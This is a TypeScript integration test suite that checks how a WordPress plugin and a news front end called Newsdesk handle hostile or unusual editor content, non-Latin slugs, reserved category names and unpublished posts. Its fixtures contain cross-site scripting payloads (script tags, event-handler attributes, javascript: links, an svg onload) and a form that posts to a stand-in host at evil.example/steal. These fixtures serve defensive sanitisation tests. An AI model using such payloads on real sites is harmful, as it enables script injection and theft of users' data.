import { decodeHTML } from 'entities';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoDataset } from '../../adapters/demo-content/dataset/buildDataset.ts';
import { LANGS, type Lang } from '../../src/domain/language.ts';
import { suggestionsPath } from '../../src/domain/endpoints.ts';
import { urls } from '../../src/domain/urls.ts';
import type { LocalWordpressClient } from '../../scripts/wordpress/wordpressClient.ts';
import { demoNow, localWordpress } from './fixtures.ts';
import { SITE_ORIGIN, startComposedSite, type ComposedSite } from '../builders/composedSite.ts';
import { restoreOptions, snapshotOptions, type OptionSnapshot } from './optionSnapshot.ts';
import { byClass, byTag, canonicalHref, hrefs, parseHtml, scriptingAttributes, scriptSignatures, textOf } from './pageInspection.ts';
import { startPurgeRecorder, type PurgeRecorder } from './purgeRecorder.ts';
import { createCategory, createPost, deletePosts, deleteTerms, updatePost, type PostSpec } from './wordpressContent.ts';

// Content a stock WordPress lets an editor, or a compromised account, publish:
// markup in a title and scripts in a body, a post without a cover or without a
// language, empty categories, titles in scripts whose slugs WordPress
// percent-encodes, and posts that are not (or not yet) public. Each is created
// through WordPress's APIs for this file and deleted after it; what the plugin
// answers and what Newsdesk, composed in-process against this WordPress, shows
// are checked side by side.

const wordpress: LocalWordpressClient = localWordpress();
const dataset = demoDataset({ now: demoNow(), mediaBase: '' });
const english = dataset.languages.en.categories.tree[0]!;
const englishSub = english.children[0]!;
const italianSub = dataset.languages.it.categories.tree[1]!.children[0]!;
const italianSection = dataset.languages.it.categories.tree[1]!;

/**
 * A title is HTML as WordPress renders it (the_title): an escaped tag is text a reader sees,
 * a raw script's text is nothing a browser shows, an image has no words, and an attribute
 * of the inline markup a heading keeps is dropped. What is left, the words, is HOSTILE_TITLE_TEXT.
 */
const HOSTILE_TITLE = '&lt;/script&gt; Leaks </script><script>alert(1)</script><img src=x onerror=alert(2)> Into <em onmouseover="alert(3)">The</em> Pantry';
const HOSTILE_TITLE_TEXT = '</script> Leaks Into The Pantry';
const EDITORIAL_TEXT = 'The editors wrote this paragraph and it must still show.';
const HOSTILE_BODY = [
  `<!-- wp:paragraph --><p>${EDITORIAL_TEXT}</p><!-- /wp:paragraph -->`,
  '<!-- wp:html --><script>alert("script")</script><!-- /wp:html -->',
  '<p onclick="alert(\'onclick\')" onmouseover="alert(\'hover\')">Hover over this.</p>',
  '<img src="x" onerror="alert(\'img\')">',
  '<a href="javascript:alert(\'link\')">a javascript: link</a> and <a href=" JaVaScRiPt:alert(\'case\')">another</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<form action="https://evil.example/steal"><input name="q"><button>Send</button></form>',
  '<svg onload="alert(\'svg\')"><circle r="1"></circle></svg>',
].join('\n');

/** A manual excerpt is HTML too: listings and the description read it. */
const HOSTILE_EXCERPT = '<img src=x onerror="alert(\'excerpt\')">An excerpt <a href="javascript:alert(\'excerpt link\')">with a link</a>.';

/** Titles in scripts beyond ASCII, and the slug WordPress derives from each (lower case, words joined by hyphens). */
const FOREIGN_SCRIPTS = [
  { script: 'Cyrillic', lang: 'de' as Lang, title: 'Роботы учатся складывать бельё', slug: 'роботы-учатся-складывать-бельё' },
  { script: 'Greek', lang: 'fr' as Lang, title: 'Ρομπότ μαθαίνουν να μαγειρεύουν', slug: 'ρομπότ-μαθαίνουν-να-μαγειρεύουν' },
] as const;
const foreignPlace = (lang: Lang) => {
  const section = dataset.languages[lang].categories.tree[2]!;
  return { section: section.slug, sub: section.children[1]!.slug };
};

/** A word no published post holds: the unpublished posts below carry it in their title, excerpt and body. */
const HIDDEN_WORD = 'quixotrelm';
const UNPUBLISHED: readonly { kind: string; spec: Partial<PostSpec> }[] = [
  { kind: 'draft', spec: { status: 'draft' } },
  { kind: 'pending', spec: { status: 'pending' } },
  { kind: 'private', spec: { status: 'private' } },
  { kind: 'scheduled', spec: { status: 'future', daysAhead: 2 } },
  { kind: 'password-protected', spec: { status: 'publish', password: 'editors-only' } },
];
const hiddenSlug = (kind: string): string => `nd-hidden-${kind}`;
const HIDDEN_PAGES = ['draft', 'password-protected'].map((kind) => `nd-hidden-page-${kind}`);
const hiddenSection = dataset.languages.en.categories.tree[3]!;
const hiddenSub = hiddenSection.children[0]!;

/** Categories an editor may name after words of Newsdesk's own addresses (/{lang}/article/{slug}, /{lang}/search). */
const ROUTE_WORD_SECTIONS = [
  { name: 'Article', slug: 'article', child: { name: 'Analysis', slug: 'nd-test-analysis' } },
  { name: 'Search', slug: 'search', child: undefined },
] as const;
const EMPTY_CATEGORY = { name: 'Quantum computing', slug: 'nd-test-empty-category' };
const EMPTY_CHILD = { name: 'Qubits', slug: 'nd-test-empty-child' };
const UNPUBLISHED_ONLY = { name: 'Embargoed', slug: 'nd-test-unpublished-only' };

let site: ComposedSite;
let recorder: PurgeRecorder;
let options: OptionSnapshot;
const postIds: number[] = [];
const categoryIds: number[] = [];
const created = new Map<string, { id: number; slug: string }>();

const addPost = async (key: string, spec: PostSpec) => {
  const post = await createPost(wordpress, spec);
  postIds.push(post.id);
  created.set(key, post);
  return post;
};

const getJson = async <T = any>(pathAndQuery: string): Promise<{ status: number; body: T }> => {
  const answer = await fetch(`${wordpress.apiBase}${pathAndQuery}`, { headers: { Accept: 'application/json' } });
  return { status: answer.status, body: (await answer.json()) as T };
};
const getPost = async (lang: Lang, slug: string, staging = false) =>
  (await getJson<any[]>(`/v6/get_post${staging ? '_staging' : ''}?lang=${lang}&slug=${encodeURIComponent(slug)}`)).body;
const page = async (path: string) => {
  const answer = await site.get(path);
  return { status: answer.status, html: await answer.text(), location: answer.headers.get('location'), cache: answer.headers.get('x-cache') };
};

beforeAll(async () => {
  recorder = await startPurgeRecorder();
  options = await snapshotOptions(wordpress, ['newsdesk_settings', 'newsdesk_purge_failures']);
  await wordpress.php(`update_option( 'newsdesk_settings', array( 'url' => '${recorder.url}', 'purge_token' => 'hostile-content-purge-token-0123' ) );`);

  await addPost('hostile', { title: HOSTILE_TITLE, content: HOSTILE_BODY, excerpt: HOSTILE_EXCERPT, lang: 'en', categories: [englishSub.slug], slug: 'nd-hostile-markup' });
  await addPost('no-cover', { title: 'A story told without a featured image', content: '<p>No cover was chosen for this one.</p>', lang: 'en', categories: [englishSub.slug], slug: 'nd-no-cover' });
  await addPost('no-language', { title: 'Un articolo senza lingua', content: '<p>Nessuna lingua assegnata.</p>', categories: [italianSub.slug], slug: 'nd-senza-lingua' });
  for (const foreign of FOREIGN_SCRIPTS) {
    await addPost(foreign.script, { title: foreign.title, content: '<p>Text.</p>', lang: foreign.lang, categories: [foreignPlace(foreign.lang).sub] });
  }

  const emptyId = await createCategory(wordpress, EMPTY_CATEGORY.name, EMPTY_CATEGORY.slug);
  categoryIds.push(emptyId, await createCategory(wordpress, EMPTY_CHILD.name, EMPTY_CHILD.slug, emptyId));
  categoryIds.push(await createCategory(wordpress, UNPUBLISHED_ONLY.name, UNPUBLISHED_ONLY.slug));
  for (const section of ROUTE_WORD_SECTIONS) {
    const sectionId = await createCategory(wordpress, section.name, section.slug);
    categoryIds.push(sectionId);
    if (section.child) categoryIds.push(await createCategory(wordpress, section.child.name, section.child.slug, sectionId));
    // The slug WordPress kept: not always the one asked for (see the test of these categories).
    const filedUnder = section.child?.slug ?? (await wordpress.php(`echo get_term( ${sectionId}, 'category' )->slug;`));
    await addPost(`route-word-${section.slug}`, { title: `Filed under ${section.name}`, content: '<p>Text.</p>', lang: 'en', categories: [filedUnder] });
  }
  // Among the 288 imported posts: the newest dates and a read count above every
  // imported post's, so any listing, search or ranking that let them through would show them.
  for (const { kind, spec } of UNPUBLISHED) {
    await addPost(`hidden-${kind}`, {
      title: `${HIDDEN_WORD} ${kind} robots report`,
      excerpt: `${HIDDEN_WORD} excerpt`,
      content: `<p>${HIDDEN_WORD} body of the ${kind} post.</p>`,
      lang: 'en',
      categories: [hiddenSub.slug, UNPUBLISHED_ONLY.slug],
      slug: hiddenSlug(kind),
      meta: { newsdesk_views: 999_999_999 },
      ...spec,
    });
  }
  await addPost('hidden-page-draft', { type: 'page', status: 'draft', title: `${HIDDEN_WORD} page`, content: `<p>${HIDDEN_WORD}</p>`, lang: 'en', slug: HIDDEN_PAGES[0]! });
  await addPost('hidden-page-password', { type: 'page', password: 'editors-only', title: `${HIDDEN_WORD} page`, content: `<p>${HIDDEN_WORD}</p>`, lang: 'en', slug: HIDDEN_PAGES[1]! });

  site = await startComposedSite({ CONTENT_API_URL: wordpress.apiBase });
}, 180_000);

afterAll(async () => {
  await site?.close();
  await deletePosts(wordpress, postIds);
  await deleteTerms(wordpress, 'category', categoryIds.reverse());
  if (options) await restoreOptions(wordpress, options);
  await recorder?.close();
}, 120_000);

describe('markup in a title and scripts in a body', () => {
  it('answers the title as WordPress renders it, the markup the editor stored as it is', async () => {
    const [post] = await getPost('en', 'nd-hostile-markup');
    expect(post.title).toBe(HOSTILE_TITLE);
  });

  it('renders the article with status 200, the title’s words and its inline markup, none of it able to run', async () => {
    const path = urls.article('en', english.slug, englishSub.slug, 'nd-hostile-markup');
    const answer = await page(path);
    expect(answer.status).toBe(200);
    const doc = parseHtml(answer.html);
    const [h1] = byTag(doc, 'h1');
    expect(textOf(h1!)).toBe(HOSTILE_TITLE_TEXT);
    // The heading keeps the emphasis, without its attribute: nothing else of the title's markup.
    expect(byTag(h1!, 'em').map((el) => [textOf(el), el.attribs])).toEqual([['The', {}]]);
    expect(h1!.children.filter((node) => node.type === 'tag')).toHaveLength(1);
    // Nowhere in the source as markup: the escaped tag stays escaped, the script is gone.
    expect(answer.html).not.toContain('<script>alert');
    expect(answer.html).not.toContain('</script> Leaks');

    const [body] = byClass(doc, 'article-body');
    expect(body).toBeDefined();
    expect(textOf(body!)).toContain(EDITORIAL_TEXT);
    for (const tag of ['script', 'iframe', 'form', 'input', 'button', 'object', 'embed']) expect(byTag(body!, tag), tag).toEqual([]);
    expect(scriptingAttributes(doc)).toEqual([]);
    expect(byTag(doc, 'iframe').map((el) => el.attribs['src'])).toEqual([]);
    // The page runs the same scripts as any article: none came with the content.
    const ordinary = dataset.languages.en.posts.find((p) => p.full.sub_category?.slug === englishSub.slug)!;
    const plain = parseHtml((await page(ordinary.full.link)).html);
    expect(scriptSignatures(doc)).toEqual(scriptSignatures(plain));
  });

  it('lists the post on its subcategory page by its title’s words, and neither that page nor the home carries its script', async () => {
    for (const path of [urls.subcategory('en', english.slug, englishSub.slug), urls.home('en')]) {
      const answer = await page(path);
      expect(answer.status, path).toBe(200);
      expect(answer.html, path).not.toContain('<script>alert');
      expect(answer.html, path).not.toContain('</script> Leaks');
      const doc = parseHtml(answer.html);
      expect(scriptingAttributes(doc), path).toEqual([]);
      if (path !== urls.home('en')) expect(byTag(doc, 'a').map(textOf), path).toContain(HOSTILE_TITLE_TEXT);
    }
  });

  it('puts the title and the excerpt in the language’s feed as text, with no markup for a feed reader to run', async () => {
    const feed = await page(urls.feed('en'));
    expect(feed.status).toBe(200);
    const item = [...feed.html.matchAll(/<item>([\s\S]*?)<\/item>/g)].map((m) => m[1]!).find((xml) => xml.includes('nd-hostile-markup'))!;
    expect(item).toBeDefined();
    const field = (name: string): string => decodeHTML(new RegExp(`<${name}>([\\s\\S]*?)</${name}>`).exec(item)![1]!);
    expect(field('title')).toBe(HOSTILE_TITLE_TEXT);
    expect(field('description')).toContain('An excerpt');
    expect(field('description')).not.toMatch(/<|javascript:/i);
  });
});

describe('a post without a featured image', () => {
  it('answers no cover fields, and Newsdesk shows the site’s own default image with the title as its alternative text', async () => {
    const [post] = await getPost('en', 'nd-no-cover');
    for (const field of ['image', 'image_medium', 'thumbnail', 'image_full', 'image_full_width', 'image_full_height', 'alt_text']) expect(post, field).not.toHaveProperty(field);

    const answer = await page(post.link);
    expect(answer.status).toBe(200);
    const [cover] = byTag(byClass(parseHtml(answer.html), 'article')[0]!, 'img');
    expect(cover!.attribs['alt']).toBe('A story told without a featured image');
    const src = cover!.attribs['src']!;
    // A file of the site, not of WordPress: it shows even when WordPress's media do not.
    expect(src).toMatch(/^\/[^/]/);
    const image = await site.get(src);
    expect(image.status).toBe(200);
    expect(image.headers.get('content-type')).toMatch(/^image\//);
  });
});

describe('a post with no language term', () => {
  it('is Italian: served in Italian, in its Italian listings and at its Italian address', async () => {
    const [post] = await getPost('it', 'nd-senza-lingua');
    expect(post).toMatchObject({ name: 'nd-senza-lingua', locale: 'it_IT', link: `/it/${italianSection.slug}/${italianSub.slug}/nd-senza-lingua` });
    const latest = await getJson('/v6/get-paginated-latest-posts?lang=it&page=1');
    expect(latest.body.posts.map((card: any) => card.name)).toContain('nd-senza-lingua');
    const listed = await getJson(`/v6/get-paginated-posts?lang=it&category=${italianSub.slug}&page=1`);
    expect(listed.body.posts.map((card: any) => card.name)).toContain('nd-senza-lingua');
    expect((await page(post.link)).status).toBe(200);
  });

  it('is in no other language: not found by slug, not listed, no page', async () => {
    for (const lang of LANGS.filter((l) => l !== 'it')) {
      expect(await getPost(lang, 'nd-senza-lingua'), lang).toEqual([]);
      const latest = await getJson(`/v6/get-paginated-latest-posts?lang=${lang}&page=1`);
      expect(latest.body.posts.map((card: any) => card.name), lang).not.toContain('nd-senza-lingua');
      expect((await page(urls.articleBySlug(lang, 'nd-senza-lingua'))).status, lang).toBe(404);
    }
  });
});

describe('categories without published posts', () => {
  const slugsOfTree = (tree: any[]): string[] => tree.flatMap((node) => [node.slug, ...slugsOfTree(node.children)]);
  const absent = [EMPTY_CATEGORY.slug, EMPTY_CHILD.slug, UNPUBLISHED_ONLY.slug];

  it('are in no language’s menu, and their slugs answer [] (or a 404 for their listing)', async () => {
    for (const lang of LANGS) {
      const tree = (await getJson<any[]>(`/v6/get-categories?lang=${lang}`)).body;
      expect(tree.length, lang).toBeGreaterThan(0);
      for (const slug of absent) {
        expect(slugsOfTree(tree), `${lang} ${slug}`).not.toContain(slug);
        expect((await getJson(`/v6/get-categories?lang=${lang}&slug=${slug}`)).body, `${lang} ${slug}`).toEqual([]);
        expect((await getJson(`/v6/get-paginated-posts?lang=${lang}&category=${slug}&page=1`)).status, `${lang} ${slug}`).toBe(404);
      }
    }
  });

  it('have no page on Newsdesk (their address leads home) and no link in its menus', async () => {
    for (const lang of LANGS) {
      const home = await page(urls.home(lang));
      expect(home.status).toBe(200);
      const links = hrefs(parseHtml(home.html));
      expect(links.length).toBeGreaterThan(0);
      for (const slug of absent) {
        expect(links.filter((href) => href.includes(slug)), `${lang} ${slug}`).toEqual([]);
        // The spec's rule for /{lang}/{slug} that is no category and no page: to the language's home.
        expect(await page(urls.category(lang, slug)), `${lang} ${slug}`).toMatchObject({ status: 302, location: urls.home(lang) });
      }
    }
  }, 120_000);
});

describe('categories named after words of Newsdesk’s addresses', () => {
  it('get a slug of their own, so that every link the menu gives them leads to their listing', async () => {
    const tree = (await getJson<any[]>('/v6/get-categories?lang=en')).body;
    const nodes = ROUTE_WORD_SECTIONS.flatMap((section) => {
      const node = tree.find((candidate) => decodeHTML(candidate.name) === section.name);
      return node ? [node, ...node.children] : [];
    });
    expect(nodes.map((node) => decodeHTML(node.name))).toEqual(ROUTE_WORD_SECTIONS.flatMap((section) => [section.name, ...(section.child ? [section.child.name] : [])]));
    // The slugs asked for were `article` and `search`: WordPress gave the next free ones.
    expect(nodes.filter((node) => node.parent === 0).map((node) => node.slug)).toEqual(['article-2', 'search-2']);
    const answers: string[] = [];
    for (const node of nodes) {
      const answer = await page(node.link);
      answers.push(`${node.link} ${answer.status} ${answer.status === 200 ? byTag(parseHtml(answer.html), 'h1').map(textOf).join() : (answer.location ?? '')}`);
    }
    expect(answers).toEqual(nodes.map((node) => `${node.link} 200 ${decodeHTML(node.name)}`));
  });

  it('keep a reserved slug out on an edit too', async () => {
    const id = categoryIds[categoryIds.length - 1]!;
    await wordpress.php(`wp_update_term( ${id}, 'category', array( 'slug' => 'latest-posts' ) );`);
    const slug = await wordpress.php(`echo get_term( ${id}, 'category' )->slug;`);
    expect(slug).toBe('latest-posts-2');
  });
});

describe.each(FOREIGN_SCRIPTS)('a post titled in $script', ({ script, lang, slug }) => {
  const place = foreignPlace(lang);
  const canonical = `/${lang}/${place.section}/${place.sub}/${encodeURIComponent(slug)}`;

  it('has its slug answered as text, and found by that text', async () => {
    const [post] = await getPost(lang, slug);
    expect(post).toMatchObject({ name: slug, link: canonical });
    const listed = await getJson(`/v6/get-paginated-posts?lang=${lang}&category=${place.sub}&page=1`);
    expect(listed.body.posts.map((card: any) => card.name)).toContain(slug);
  });

  it('answers 200 at the address Newsdesk links, which is its canonical one, and every other spelling reaches it without a loop', async () => {
    const listing = parseHtml((await page(urls.subcategory(lang, place.section, place.sub))).html);
    expect(hrefs(listing)).toContain(canonical);
    const answer = await page(canonical);
    expect(answer.status).toBe(200);
    expect(canonicalHref(parseHtml(answer.html))).toBe(`${SITE_ORIGIN}${canonical}`);
    // WordPress stores the slug in lower-case hex; the /article/ form; the raw UTF-8 text.
    const stored = created.get(script)!.slug;
    for (const spelling of [`/${lang}/${place.section}/${place.sub}/${stored}`, `/${lang}/article/${stored}`, `/${lang}/article/${encodeURIComponent(slug)}`]) {
      let path = spelling;
      const visited: string[] = [];
      let reached = await page(path);
      while (reached.status === 301 && visited.length < 5) {
        visited.push(path);
        path = reached.location!;
        expect(visited, spelling).not.toContain(path);
        reached = await page(path);
      }
      expect(reached.status, spelling).toBe(200);
      expect(visited.length, spelling).toBeLessThanOrEqual(1);
      expect(canonicalHref(parseHtml(reached.html)), spelling).toBe(`${SITE_ORIGIN}${canonical}`);
    }
  });

  it('is purged by the very path Newsdesk keeps its page under', async () => {
    expect((await page(canonical)).status).toBe(200);
    expect((await page(canonical)).cache).toBe('HIT');
    const before = recorder.purges.length;
    await updatePost(wordpress, created.get(script)!.id, { post_excerpt: `Corrected ${Date.now()}` });
    const sent = recorder.purges.slice(before);
    expect(sent).toHaveLength(1);
    expect(sent[0]!.body.paths).toContain(canonical);
    // The paths alone, so that no tag drops the page instead.
    const { purged } = await site.purge({ paths: sent[0]!.body.paths });
    expect(purged.pages).toContain(canonical);
    expect((await page(canonical)).cache).toBe('MISS');
    // And Newsdesk takes the whole purge as the plugin sent it.
    await site.purge(sent[0]!.body);
  });
});

describe('drafts, pending, private, scheduled and password-protected posts', () => {
  const hiddenSlugs = [...UNPUBLISHED.map(({ kind }) => hiddenSlug(kind)), ...HIDDEN_PAGES];
  const hiddenIds = (): number[] => [...created.entries()].filter(([key]) => key.startsWith('hidden-')).map(([, post]) => post.id);
  // Their slugs, titles and texts; not the word alone, which a search page repeats as the reader's query.
  const markers = [...hiddenSlugs, ...UNPUBLISHED.map(({ kind }) => `${HIDDEN_WORD} ${kind}`), `${HIDDEN_WORD} excerpt`, `${HIDDEN_WORD} body`, `${HIDDEN_WORD} page`];
  const leaks = (text: string): string[] => markers.filter((marker) => text.toLowerCase().includes(marker));
  const cardsOf = async (path: string, pageParam = 'page'): Promise<any[]> => {
    const first = await getJson(`${path}&${pageParam}=1`);
    const cards = [...first.body.posts];
    for (let n = 2; n <= first.body.total_pages; n += 1) cards.push(...(await getJson(`${path}&${pageParam}=${n}`)).body.posts);
    return cards;
  };

  for (const staging of [false, true]) {
    const suffix = staging ? '-staging' : '';
    it(`are in no listing, search, suggestion, popular or related answer of the contract (${staging ? 'staging' : 'production'} paths)`, async () => {
      const ids = hiddenIds();
      expect(ids).toHaveLength(UNPUBLISHED.length + HIDDEN_PAGES.length);
      const answered: any[] = [
        ...(await cardsOf(`/v6/get-paginated-latest-posts${suffix}?lang=en`)),
        ...(await cardsOf(`/v6/get-paginated-posts${suffix}?lang=en&category=${hiddenSub.slug}`)),
        ...(await cardsOf(`/v6/get-paginated-posts${suffix}?lang=en&category=${hiddenSection.slug}`)),
        ...(await getJson<any[]>(`/v5/${staging ? 'stag-get-popular-posts' : 'get-popular-posts'}?lang=en`)).body,
      ];
      expect(answered.length).toBeGreaterThan(48);
      for (const qdata of ['any', 'day']) {
        const search = await getJson(`/v6/search-custom${suffix}?lang=en&s=${HIDDEN_WORD}&spellcheck=true&wpsolr_page=1&qdata=${qdata}&version=new`);
        expect(search.body).toMatchObject({ nposts: 0, response: [] });
      }
      expect((await getJson(`/v6/simple-search-custom${suffix}?lang=en&s=${HIDDEN_WORD}`)).body).toEqual([]);
      for (const slug of hiddenSlugs.slice(0, UNPUBLISHED.length)) {
        expect(await getPost('en', slug, staging), slug).toEqual([]);
        expect((await getJson(`/v6/relatedpost${suffix}?lang=en&id=0&title=${slug}`)).body, slug).toEqual({ response: [] });
      }
      for (const id of ids) expect((await getJson(`/v6/relatedpost${suffix}?lang=en&id=${id}`)).body, String(id)).toEqual({ response: [] });
      for (const slug of HIDDEN_PAGES) expect((await getJson(`/v2/get_page?lang=en&slug=${slug}`)).body, slug).toEqual([]);
      // Nor counted in the menu: the subcategory holds the imported posts alone.
      const menu = (await getJson<any[]>(`/v6/get-categories?lang=en&slug=${hiddenSub.slug}`)).body;
      expect(menu.map((node) => node.count)).toEqual([dataset.languages.en.posts.filter((p) => p.full.sub_category?.slug === hiddenSub.slug).length]);
      // Their published neighbours, in the same subcategory and section.
      for (const neighbour of answered.filter((card) => card.parent_category?.slug === hiddenSection.slug)) {
        const related = await getJson(`/v6/relatedpost${suffix}?lang=en&id=${neighbour.id}&title=${neighbour.name}`);
        answered.push(...related.body.response);
      }
      expect(answered.filter((card) => ids.includes(Number(card.id)) || leaks(`${card.name} ${card.title}`).length > 0)).toEqual([]);
      // A search that found nothing is not a popular search.
      expect(JSON.stringify((await getJson('/v2/search-lastresearch?lang=en')).body)).not.toContain(HIDDEN_WORD);
    }, 120_000);
  }

  it('are on no Newsdesk page, and their addresses show nothing of them', async () => {
    const paths = [
      urls.home('en'),
      urls.latestPosts('en', 1),
      urls.latestPosts('en', 2),
      urls.latestPosts('en', 3),
      urls.category('en', hiddenSection.slug),
      urls.category('en', hiddenSection.slug, 2),
      urls.subcategory('en', hiddenSection.slug, hiddenSub.slug),
      urls.search('en', HIDDEN_WORD),
      suggestionsPath('en', HIDDEN_WORD),
      ...dataset.languages.en.posts.filter((p) => p.full.parent_category.slug === hiddenSection.slug).map((p) => p.full.link),
    ];
    for (const path of paths) {
      const answer = await page(path);
      expect(answer.status, path).toBe(200);
      expect(leaks(answer.html), path).toEqual([]);
    }
    for (const slug of hiddenSlugs) {
      expect((await page(urls.articleBySlug('en', slug))).status, slug).toBe(404);
      expect((await page(urls.article('en', hiddenSection.slug, hiddenSub.slug, slug))).status, slug).toBe(404);
      // No page by that slug: the spec's rule for /{lang}/{slug} that is no category and no page.
      expect(await page(urls.staticPage('en', slug)), slug).toMatchObject({ status: 302, location: urls.home('en') });
    }
  }, 120_000);

  it('are in no sitemap and no feed', async () => {
    const index = await page(urls.sitemapIndex());
    expect(index.status).toBe(200);
    const documents = [...index.html.matchAll(/<loc>([^<]+)<\/loc>/g)].map((m) => m[1]!.replace(SITE_ORIGIN, ''));
    expect(documents.length).toBeGreaterThan(LANGS.length);
    documents.push(urls.feed('en'), urls.categoryFeed('en', hiddenSection.slug), urls.categoryFeed('en', hiddenSub.slug));
    for (const path of documents) {
      const answer = await page(path);
      expect(answer.status, path).toBe(200);
      expect(leaks(answer.html), path).toEqual([]);
      expect(answer.html, path).not.toContain(UNPUBLISHED_ONLY.slug);
    }
  }, 120_000);
});
